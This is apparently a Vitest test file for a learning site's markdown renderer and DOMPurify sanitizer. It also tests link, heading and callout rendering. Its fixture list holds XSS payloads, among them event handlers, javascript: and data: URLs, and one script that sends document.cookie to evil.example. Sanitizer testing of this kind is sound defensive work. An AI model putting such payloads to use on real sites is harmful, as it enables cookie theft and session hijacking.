import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../src/content/markdown';
import { sanitizeNoteHtml } from '../../../src/content/markdownSanitize';
import { notes } from '../../../src/content/notes';
import { headingSlugs } from '../../../src/content/notesLinks';

/** Parses rendered HTML into a detached element, the way the page's {@html} would. */
function dom(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
}

/** Every attribute value and element in the output, to look for anything executable. */
function executableTraces(host: HTMLElement): string[] {
  const traces: string[] = [];
  for (const element of host.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'form', 'base', 'meta', 'link'].includes(tag))
      traces.push(`<${tag}>`);
    for (const attribute of element.attributes) {
      if (/^on/i.test(attribute.name)) traces.push(`${tag}[${attribute.name}]`);
      if (/^\s*(javascript|data|vbscript|blob|file):/i.test(attribute.value))
        traces.push(`${tag}[${attribute.name}=${attribute.value}]`);
      if (attribute.name === 'style' || attribute.name === 'target' || attribute.name === 'srcset')
        traces.push(`${tag}[${attribute.name}]`);
    }
  }
  return traces;
}

describe('hostile markdown never reaches the DOM as something that runs', () => {
  const hostile: [string, string][] = [
    ['a script tag', 'Hello <script>alert(1)</script> world'],
    ['a script block', '<script>\nfetch("https://evil.example/?c=" + document.cookie)\n</script>'],
    ['an event handler on an image', '<img src="https://example.com/x.png" onerror="alert(1)">'],
    ['an event handler on a div', '<div onmouseover="alert(1)">hover me</div>'],
    ['an svg with onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
    ['an inline svg with a script inside', '<svg><script>alert(1)</script></svg>'],
    ['a javascript: link', '[click me](javascript:alert(1))'],
    ['a javascript: link with mixed case and spaces', '[click me]( JaVaScRiPt:alert(1) )'],
    ['a javascript: link hidden with an entity', '[click me](javascript&#58;alert(1))'],
    ['a javascript: autolink', '<javascript:alert(1)>'],
    ['a data: URL in an image', '![pixel](data:image/png;base64,iVBORw0KGgo=)'],
    ['a data: URL with HTML in a link', '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['a data: URL in a raw image tag', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
    ['a vbscript: link', '[x](vbscript:msgbox(1))'],
    ['an unknown scheme', '[x](ftp://files.example.com/a) and [y](chrome://settings) and [z](mailto:a@b.c)'],
    ['an unknown note-style scheme', '[x](exec:rm-rf)'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>'],
    ['a form posting elsewhere', '<form action="https://evil.example"><input name="q"><button>Go</button></form>'],
    ['a style tag', '<style>body { display: none }</style>'],
    ['an inline style', '<p style="position:fixed;inset:0">cover</p>'],
    ['a link that opens a new window', '<a href="https://docs.aws.amazon.com" target="_blank">docs</a>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a base tag', '<base href="https://evil.example/">'],
    ['a protocol-relative link', '[x](//evil.example/path)'],
    ['a heading with a script', '## Title <script>alert(1)</script>'],
    ['a glossary link with a hostile id', '[term](glossary:"><script>alert(1)</script>)'],
    ['a scenario link with a hostile id', '[Try it](scenario:x" onclick="alert(1))'],
    ['a schedule block that tries to break out of its attribute', '```schedule\n"><img src=x onerror=alert(1)>\n```'],
    ['a code block language that tries to break out', '```"><script>alert(1)</script>\nx\n```'],
  ];

  it.each(hostile)('%s is neutralised', (_name, markdown) => {
    const host = dom(renderMarkdown(markdown).html);
    expect(executableTraces(host)).toEqual([]);
  });

  it('keeps the words of a hostile paragraph readable as text', () => {
    const host = dom(renderMarkdown('Hello <script>alert(1)</script> world').html);
    expect(host.querySelector('script')).toBeNull();
    expect(host.textContent).toContain('Hello');
    expect(host.textContent).toContain('world');
  });

  it('keeps the text of a link whose scheme is not allowed, without the link', () => {
    const host = dom(renderMarkdown('[click me](javascript:alert(1))').html);
    expect(host.querySelector('a')).toBeNull();
    expect(host.textContent).toContain('click me');
  });

  it('DOMPurify itself removes scripts, handlers, svg and javascript: URLs from HTML that skipped the renderer', () => {
    const html = [
      '<p onclick="alert(1)">a</p>',
      '<script>alert(1)</script>',
      '<svg onload="alert(1)"></svg>',
      '<a href="javascript:alert(1)">b</a>',
      '<a href="//evil.example">c</a>',
      '<img src="data:image/png;base64,AAAA">',
      '<img src="http://example.com/plain-http.png">',
      '<math><mi>x</mi></math>',
    ].join('');
    const host = dom(sanitizeNoteHtml(html));
    expect(executableTraces(host)).toEqual([]);
    expect(host.querySelectorAll('img')).toHaveLength(0);
    for (const anchor of host.querySelectorAll('a')) expect(anchor.hasAttribute('href')).toBe(false);
  });
});

describe('note links follow the markdown conventions of ids.md', () => {
  it('sends every "Try it" scenario link to the guided scenario player at /scenarios/<id>', () => {
    const host = dom(renderMarkdown('[Try it](scenario:hook-never-reports)').html);
    const link = host.querySelector('a.try-it');
    expect(link?.getAttribute('href')).toBe('/scenarios/hook-never-reports');
    expect(link?.textContent).toBe('Try it');
  });

  it('sends note: links to /learn/<id>, keeping a heading anchor', () => {
    const host = dom(
      renderMarkdown('[a](note:versions-and-latest) and [b](note:lifecycle-hooks#the-one-hour-timeout)').html,
    );
    const hrefs = [...host.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['/learn/versions-and-latest', '/learn/lifecycle-hooks#the-one-hour-timeout']);
  });

  it('sends question: links to the Practice page', () => {
    const host = dom(renderMarkdown('[practise](question:hooks-001)').html);
    expect(host.querySelector('a')?.getAttribute('href')).toBe('/practice?question=hooks-001');
  });

  it('renders glossary: links as buttons that carry the term id and lists the terms used', () => {
    const rendered = renderMarkdown(
      'An [alias](glossary:alias) points at a [version](glossary:version); the [alias](glossary:alias) again.',
    );
    const buttons = [...dom(rendered.html).querySelectorAll('button.glossary-term')];
    expect(buttons.map((b) => [b.getAttribute('type'), b.getAttribute('data-glossary-id'), b.textContent])).toEqual([
      ['button', 'alias', 'alias'],
      ['button', 'version', 'version'],
      ['button', 'alias', 'alias'],
    ]);
    expect(rendered.glossaryIds).toEqual(['alias', 'version']);
  });

  it('keeps external AWS documentation links as ordinary links with rel="noopener" and no new window', () => {
    const host = dom(
      renderMarkdown('[PublishVersion](https://docs.aws.amazon.com/lambda/latest/dg/API_PublishVersion.html)').html,
    );
    const link = host.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://docs.aws.amazon.com/lambda/latest/dg/API_PublishVersion.html');
    expect(link?.getAttribute('rel')).toBe('noopener');
    expect(link?.hasAttribute('target')).toBe(false);
  });
});

describe('headings, table of contents and callouts', () => {
  it('gives headings slug ids with an anchor link and lists h2/h3 in the table of contents', () => {
    const rendered = renderMarkdown('# Title\n\n## Why `$LATEST` moves\n\ntext\n\n### A *detail*\n\n#### Deeper');
    const host = dom(rendered.html);
    expect(host.querySelector('h2')?.id).toBe('why-latest-moves');
    expect(host.querySelector('h2 a.heading-anchor')?.getAttribute('href')).toBe('#why-latest-moves');
    expect(rendered.toc).toEqual([
      { depth: 2, text: 'Why $LATEST moves', slug: 'why-latest-moves' },
      { depth: 3, text: 'A detail', slug: 'a-detail' },
    ]);
  });

  it('keeps heading ids that are also names on document (title, images, links)', () => {
    const host = dom(renderMarkdown('## Title\n\n## Images\n\n## Links').html);
    expect([...host.querySelectorAll('h2')].map((h) => h.id)).toEqual(['title', 'images', 'links']);
  });

  it('numbers repeated headings so every anchor is unique', () => {
    const rendered = renderMarkdown('## Try it\n\n## Try it');
    expect(rendered.toc.map((t) => t.slug)).toEqual(['try-it', 'try-it-1']);
  });

  it('drops the leading # title when the page prints the title itself', () => {
    const host = dom(renderMarkdown('# The title\n\nBody.', { dropLeadingTitle: true }).html);
    expect(host.querySelector('h1')).toBeNull();
    expect(host.textContent).toContain('Body.');
  });

  it.each([
    ['PRECISELY', 'Precisely'],
    ['TRAP', 'Trap'],
    ['TIP', 'Tip'],
    ['NOTE', 'Note'],
  ])('renders > [!%s] as a labelled aside with the visible label "%s"', (marker, label) => {
    const host = dom(renderMarkdown(`> [!${marker}]\n> The **body** of the callout.`).html);
    const aside = host.querySelector('aside.callout');
    expect(aside?.classList.contains(`callout-${marker.toLowerCase()}`)).toBe(true);
    expect(aside?.getAttribute('role')).toBe('note');
    expect(aside?.querySelector('.callout-label')?.textContent).toBe(label);
    expect(aside?.textContent).not.toContain(`[!${marker}]`);
    expect(aside?.querySelector('strong')?.textContent).toBe('body');
  });

  it('leaves an ordinary quotation (or an unknown marker) as a blockquote', () => {
    const host = dom(renderMarkdown('> Just a quote.\n\n> [!WARNING]\n> not ours').html);
    expect(host.querySelectorAll('blockquote')).toHaveLength(2);
    expect(host.querySelector('aside')).toBeNull();
  });
});

describe('code and schedule blocks', () => {
  it('marks yaml, json and shell blocks with their language for the lazy highlighter', () => {
    const host = dom(
      renderMarkdown(
        '```yaml\nAutoPublishAlias: live\n```\n\n```json\n{"a": 1}\n```\n\n```sh\naws lambda publish-version\n```',
      ).html,
    );
    expect([...host.querySelectorAll('.code-block')].map((b) => b.getAttribute('data-lang'))).toEqual([
      'yaml',
      'json',
      'sh',
    ]);
    expect(host.querySelector('.code-block[data-lang="yaml"] code')?.textContent).toBe('AutoPublishAlias: live');
  });

  it('turns a ```schedule block into a placeholder carrying the configuration name', () => {
    const host = dom(renderMarkdown('```schedule\nCodeDeployDefault.LambdaLinear10PercentEvery1Minute\n```').html);
    expect(host.querySelector('figure.schedule-block')?.getAttribute('data-schedule')).toBe(
      'CodeDeployDefault.LambdaLinear10PercentEvery1Minute',
    );
  });
});

describe('every real note renders', () => {
  it.each(notes.map((note) => [note.id, note] as const))(
    '%s renders with an anchor for every heading the link checker knows',
    (_id, note) => {
      const rendered = renderMarkdown(note.body, { dropLeadingTitle: true });
      const host = dom(rendered.html);
      const ids = new Set([...host.querySelectorAll('h2, h3, h4, h5, h6')].map((h) => h.id));
      const titleSlugs = new Set(
        note.body
          .split('\n')
          .filter((line) => /^#\s/.test(line))
          .map((line) => line.replace(/^#\s+/, '')),
      );
      for (const slug of headingSlugs(note.body)) {
        if ([...titleSlugs].some((title) => headingSlugs(`# ${title}`).has(slug))) continue;
        expect(ids.has(slug), `#${slug}`).toBe(true);
      }
      expect(executableTraces(host)).toEqual([]);
      expect(host.querySelectorAll('a.try-it').length).toBeGreaterThan(0);
    },
  );
});
